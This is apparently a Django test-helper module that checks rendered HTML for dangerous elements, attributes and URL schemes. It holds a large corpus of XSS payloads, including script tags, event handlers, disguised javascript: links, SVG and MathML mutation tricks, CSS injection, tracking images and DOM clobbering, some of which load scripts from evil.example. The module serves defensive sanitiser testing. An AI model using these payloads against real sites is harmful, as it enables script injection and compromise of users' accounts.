"""What makes HTML able to run code or reach another site by itself (dangers), and the payloads a
writer, or a stolen editor account, might type to get there. Markdown and image tests share them."""

import html
import re

from django.conf import settings

from tests.helpers import elements

TABS_AND_NEWLINES = re.compile(r"[\t\n\r]")
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}


def normalise_url(value):
    """The URL a browser acts on (WHATWG URL parsing): entities decoded, leading and trailing spaces and
    control characters stripped, tabs and newlines removed anywhere, backslashes read as slashes."""
    value = TABS_AND_NEWLINES.sub("", html.unescape(value)).strip("".join(map(chr, range(0x21))))
    return value.replace("\\", "/").lower()


def scheme_of(url):
    match = SCHEME.match(normalise_url(url))
    return match.group(1) if match else None


FORBIDDEN_ELEMENTS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math", "style",
    "form", "input", "button", "textarea", "select", "option", "meta", "base", "link", "template",
    "noscript", "video", "audio", "source", "track", "marquee", "details", "body", "html", "head",
    "title", "xmp", "plaintext", "noembed", "noframes", "foreignobject", "animate", "set", "use",
    "portal", "isindex", "keygen", "param",
}  # fmt: skip
FORBIDDEN_ATTRIBUTES = {"style", "srcdoc", "formaction", "action", "xlink:href", "srcset", "background",
                        "dynsrc", "lowsrc", "poster", "http-equiv", "name", "form", "is", "target"}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite", "xlink:href"}


def _template_ids():
    """ids the page templates give their own elements: a writer's heading must not take one over."""
    found = set()
    for template in (settings.BASE_DIR / "templates").rglob("*.html"):
        found.update(re.findall(r'\bid="([A-Za-z][\w:.-]*)"', template.read_text()))
    return found


PAGE_IDS = _template_ids()


def dangers(output):
    """Every reason this HTML could run code or reach another site by itself; empty when inert."""
    problems = []
    for tag, attrs in elements(output):
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"<{tag}> element")
        for name, value in attrs.items():
            if name.startswith("on"):
                problems.append(f"{name} handler on <{tag}>")
            if name in FORBIDDEN_ATTRIBUTES:
                problems.append(f"{name} attribute on <{tag}>")
            if name in URL_ATTRIBUTES:
                scheme = scheme_of(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    problems.append(f"{scheme}: URL in {name} of <{tag}>: {value!r}")
            if name == "id" and (value.startswith("_") or value in PAGE_IDS):
                problems.append(f"id {value!r} on <{tag}> clobbers a page or prototype name")
        if tag == "img":
            source = normalise_url(attrs.get("src", ""))
            if not source.startswith("/") or source.startswith("//"):
                problems.append(f"<img> loads from outside the site: {attrs.get('src')!r}")
    return problems


# ---------------------------------------------------------------------------------------------
# The corpus
# ---------------------------------------------------------------------------------------------

XSS_PAYLOADS = [
    # Raw <script>, every way it is usually smuggled.
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-split-tag", "<scr\nipt>alert(1)</scr\nipt>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-attribute-whitespace", "<script\t\n>alert(1)</script >"),
    ("script-slash-attribute", '<script/x src="https://evil.example/x.js"></script>'),
    ("script-in-paragraph", "Hello <script>alert(1)</script> world"),
    ("script-in-fenced-code", "```html\n<script>alert(1)</script>\n```"),
    ("script-in-inline-code", "Use `<script>alert(1)</script>` like so"),
    # Event handlers.
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="/media/a.png" onerror="alert(1)">'),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-backtick", "<img src=`x` onerror=`alert(1)`>"),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("a-onmouseover", '<a href="/x" onmouseover="alert(1)">hover</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("video-onerror", "<video src=x onerror=alert(1)></video>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("div-onpointerenter", '<div onpointerenter="alert(1)">x</div>'),
    ("p-onclick-uppercase", '<p ONCLICK="alert(1)">x</p>'),
    ("h2-onfocus-tabindex", '<h2 id="x" tabindex=1 onfocus=alert(1)>x</h2>'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    # javascript: URLs, Markdown and raw HTML, with the usual disguises.
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-javascript-leading-space", "[x]( javascript:alert(1))"),
    ("md-link-javascript-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-link-javascript-entity-colon", "[x](javascript&#58;alert(1))"),
    ("md-link-javascript-hex-j", "[x](&#x6A;avascript:alert(1))"),
    ("md-link-javascript-tab-entity", "[x](java&#x09;script:alert(1))"),
    ("md-link-javascript-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-javascript-title", '[x](javascript:alert(1) "title")'),
    ("md-reference-javascript", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-reference-javascript-titled", '[x][evil]\n\n[evil]: javascript:alert(1) "t"'),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-autolink-attribute-break", '<http://a.example/"onmouseover="alert(1)>'),
    ("a-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("a-javascript-upper", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">x</a>'),
    ("a-javascript-leading-control", '<a href="&#1;javascript:alert(1)">x</a>'),
    ("a-javascript-tab-split", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-javascript-newline-split", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-javascript-entity-tab", '<a href="java&#9;script:alert(1)">x</a>'),
    (
        "a-javascript-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    ),
    ("a-javascript-hex-j", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    ("a-javascript-padded-entities", '<a href="&#0000106avascript:alert(1)">x</a>'),
    ("a-javascript-named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("img-src-javascript", '<img src="javascript:alert(1)">'),
    # data: and vbscript:
    ("md-link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("a-vbscript", '<a href="VBScript:msgbox(1)">x</a>'),
    # SVG and MathML.
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-foreignobject", "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"),
    (
        "svg-animate-href",
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    ),
    ("svg-set-href", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'),
    ("svg-use-href", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("svg-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("a-xlink-href", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("mathml-href", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    ("mathml-maction", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'),
    (
        "mathml-style-mxss",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    ),
    # Frames and plug-ins.
    ("iframe-src", '<iframe src="https://evil.example/"></iframe>'),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="https://evil.example/x.swf">'),
    ("applet", '<applet code="Evil.class" codebase="https://evil.example/"></applet>'),
    ("frameset", '<frameset><frame src="javascript:alert(1)"></frameset>'),
    # Forms.
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("input-formaction", '<form id="test"></form><input form="test" type="submit" formaction="javascript:alert(1)">'),
    ("textarea-breakout", "<textarea></textarea><script>alert(1)</script>"),
    # Document-level elements.
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="https://evil.example/">'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    # CSS.
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-import", '<style>@import "https://evil.example/x.css";</style>'),
    ("style-attr-expression", '<div style="width:expression(alert(1))">x</div>'),
    ("style-attr-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-behavior", '<p style="behavior:url(https://evil.example/x.htc)">x</p>'),
    # Malformed markup and attribute breaking.
    ("unclosed-img", "<img src=x onerror=alert(1)"),
    ("unclosed-attribute", '<a href="/x onmouseover=alert(1) x="'),
    ("quote-breakout-text", '"><script>alert(1)</script>'),
    ("quote-breakout-single", "'><img src=x onerror=alert(1)>"),
    ("quote-breakout-in-attribute", '<a title=""><script>alert(1)</script>">x</a>'),
    ("alt-breakout", '<img alt="><script>alert(1)</script>">'),
    ("alt-breakout-with-src", '<img src="/media/a.png" alt="x><svg onload=alert(1)>">'),
    ("double-open", "<<script>alert(1);//<</script>"),
    ("null-byte-tag", "<scr\x00ipt>alert(1)</script>"),
    ("comment-hiding-script", "<!--<script>alert(1)</script>-->"),
    ("comment-breakout", "<!-- --!><script>alert(1)</script> -->"),
    ("comment-in-attribute", '<a title="<!--" href="/x">--><script>alert(1)</script></a>'),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template", "<template><script>alert(1)</script></template>"),
    ("template-img", "<template><img src=x onerror=alert(1)></template>"),
    ("xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
    ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
    # Markdown-specific injection.
    ("md-image-title-breakout", '![a](/media/a.png "t\\" onerror=\\"alert(1)")'),
    ("md-image-alt-breakout", '![a" onerror="alert(1)](/media/a.png)'),
    ("md-link-title-breakout", '[a](/x "t\\"><script>alert(1)</script>")'),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](/x)"),
    ("md-heading-html", "## Hi <img src=x onerror=alert(1)>"),
    ("md-toc-heading-script", "[TOC]\n\n## <script>alert(1)</script>"),
    ("md-table-cell-html", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <svg onload=alert(1)> |"),
    ("md-footnote-script", "x[^1]\n\n[^1]: <script>alert(1)</script>"),
    ("md-blockquote-script", "> <script>alert(1)</script>"),
    ("md-list-iframe", "- <iframe src=javascript:alert(1)></iframe>"),
    ("md-image-external", "![tracker](https://evil.example/pixel.png)"),
    ("md-image-protocol-relative", "![tracker](//evil.example/pixel.png)"),
    ("img-backslash-relative", '<img src="/\\evil.example/pixel.png">'),
    ("img-tab-split-relative", '<img src="/&#9;/evil.example/pixel.png">'),
    ("img-newline-split-relative", '<img src="/&#10;/evil.example/pixel.png" alt="x">'),
    # id clobbering.
    ("h2-id-proto", '<h2 id="__proto__">x</h2>'),
    ("h2-id-underscore", '<h2 id="_config">x</h2>'),
    ("form-id-clobber", '<form id="location"><input name="href" value="javascript:alert(1)"></form>'),
    ("img-name-clobber", '<img name="cookie" src="/media/a.png">'),
    ("h2-id-page-main", '<h2 id="main">x</h2>'),
    ("md-heading-slug-page-main", "## Main"),
]
